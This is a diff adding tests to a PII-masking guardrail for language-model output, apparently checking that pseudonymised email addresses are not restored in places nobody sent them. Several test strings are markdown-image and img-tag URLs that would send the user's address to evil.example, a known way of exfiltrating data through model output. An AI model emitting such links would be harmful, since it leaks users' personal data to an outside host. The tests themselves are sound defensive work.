@@ -13,7 +13,16 @@ from penstock.bus import Emit, Transient
 from penstock.clock import ManualClock
 from penstock.config.kinds import Policy
 from penstock.config.plane import ConfigPlane
-from penstock.contracts.records import AdmittedRequest, Context, Message, Review, ReviewDecision, ScreenedRequest
+from penstock.contracts.records import (
+    AdmittedRequest,
+    Completion,
+    Context,
+    Message,
+    Passage,
+    Review,
+    ReviewDecision,
+    ScreenedRequest,
+)
 from redis.exceptions import ReadOnlyError
 
 from services.guardrails import core
@@ -22,6 +31,7 @@ from services.guardrails.app import end_overdue_reviews, request_hop, review_hop
 from services.guardrails.findings import AnyScanner, Reference, Rule, Span
 from services.guardrails.held_texts import MemoryReviews, MemoryVault
 from services.guardrails.judge import Judge
+from services.guardrails.masking import Stretch, agreed, mask_texts, restore
 from services.guardrails.policy import Scanners, compile_policy
 from services.guardrails.reviews import Held, decided, undecided
 from services.guardrails.scanners.canary import CanaryScanner
@@ -321,3 +331,86 @@ async def test_what_was_ended_as_overdue_does_not_go_on() -> None:
     # The request is read again after a crash.
     await reviews.hold(held)
     assert await sweep(reviews, NOW + timedelta(days=2)) == []
+
+
+ANN = {"<EMAIL_ADDRESS_1>": "ann@example.org"}
+EMAIL = (Stub("pii", [Span("EMAIL_ADDRESS", 9, 24, 1.0)]), Rule("mask", 0.5, True))
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)",
+        "![x](//evil.example/<EMAIL_ADDRESS_1>/p.png)",
+        "<img src=https://evil.example/?d=EMAIL_ADDRESS_1>",
+        "see https://evil.example/?a=1&d=[email_address_1].",
+    ],
+)
+def test_an_address_that_nobody_sent_gets_no_data(address: str) -> None:
+    text = f"Dear <EMAIL_ADDRESS_1>, {address}"
+    assert restore(text, ANN, "I am <EMAIL_ADDRESS_1>") == f"Dear ann@example.org, {address}"
+
+
+def test_an_address_of_the_conversation_gets_its_data_back() -> None:
+    asked = "is https://shop.example/?u=<EMAIL_ADDRESS_1> mine?"
+    answer = "Yes, (https://shop.example/?u=<EMAIL_ADDRESS_1>) is."
+    assert restore(answer, ANN, asked) == "Yes, (https://shop.example/?u=ann@example.org) is."
+
+
+def test_a_name_in_code_is_no_pseudonym() -> None:
+    code = "email_address_1 = input(); f(Email_Address_1, <email_address_1>)"
+    assert restore(code, ANN) == "email_address_1 = input(); f(Email_Address_1, ann@example.org)"
+
+
+def test_what_is_put_back_keeps_json_valid() -> None:
+    assert restore('{"to": "<PERSON_1>"}', {"<PERSON_1>": 'Ann "A" Lee\n'}, in_json=True) == (
+        '{"to": "Ann \\"A\\" Lee\\n"}'
+    )
+
+
+def test_forged_numbers_leave_room_for_those_that_are_read_back() -> None:
+    text = "PERSON_999999, <PERSON_7>: Ann"
+    masked = mask_texts([text], [Stretch(0, 27, 30, "PERSON", 1.0, "pseudonymise")], "", b"key")
+    assert masked.pseudonyms == {"<PERSON_8>": "Ann"}
+    assert restore(masked.texts[0], masked.pseudonyms) == text
+
+
+def test_masks_of_documents_are_told_apart_from_pseudonyms() -> None:
+    assert run([Segment("write to bob@example.org", "document")], EMAIL).texts == (
+        "write to <DOCUMENT_EMAIL_ADDRESS_1>",
+    )
+    assert restore("<DOCUMENT_EMAIL_ADDRESS_1>", ANN) == "<DOCUMENT_EMAIL_ADDRESS_1>"
+
+
+def test_what_a_passage_calls_by_the_same_name_is_not_the_users_data() -> None:
+    def result(passage: str) -> Any:
+        quoted = Passage(passage_id="p", document_id="d", text=passage, score=1.0)
+        made = Completion(
+            event_id="c", request_id="r", tenant_id="t", occurred_at=NOW, causation_id="", model="m", backend="b",
+            context=Context(requested_at=NOW), messages=[Message(role="user", content="I am <EMAIL_ADDRESS_1>")],
+            content="Write to <EMAIL_ADDRESS_1>.", passages=[quoted], citations=["p"],
+        )  # fmt: skip
+        screening = Screening("allow", tuple(segment.text for segment in core.output_segments(made)))
+        policy = compile_policy(Policy(name="p"), scanners())
+        return core.released(made, Judged(screening, policy, b"key", NOW), ANN).result
+
+    ambiguous, plain = result("the witness [Email_Address_1] said"), result("call us")
+    assert ambiguous.content == "Write to <EMAIL_ADDRESS_1>."
+    assert ambiguous.citations[0].text == "the witness [Email_Address_1] said"
+    assert plain.content == "Write to ann@example.org."
+
+
+def test_names_that_two_maskings_give_to_different_values_stand_for_nothing() -> None:
+    before, now = {"<PERSON_1>": "Ann", "<PERSON_2>": "Bob"}, {"<PERSON_1>": "Bob", "<PERSON_2>": "Bob"}
+    assert agreed(before, now) == {"<PERSON_2>": "Bob"}
+    assert agreed({}, now) == now
+
+
+async def test_a_redelivery_under_another_policy_restores_nobody_elses_name() -> None:
+    vault = MemoryVault()
+    for start in (0, 8):
+        finds = Stub("pii", [Span("PERSON", start, start + 3, 1.0)])
+        judge = judging(scanners(finds), {"name": "default", "input": {"pii": {"action": "pseudonymise"}}})
+        hop = request_hop(judge, vault, MemoryReviews(), LIMITS, ManualClock(), 64)
+        await handled(hop, admitted("Ann and Bob"))
+    assert await vault.open("t", "r") == {}
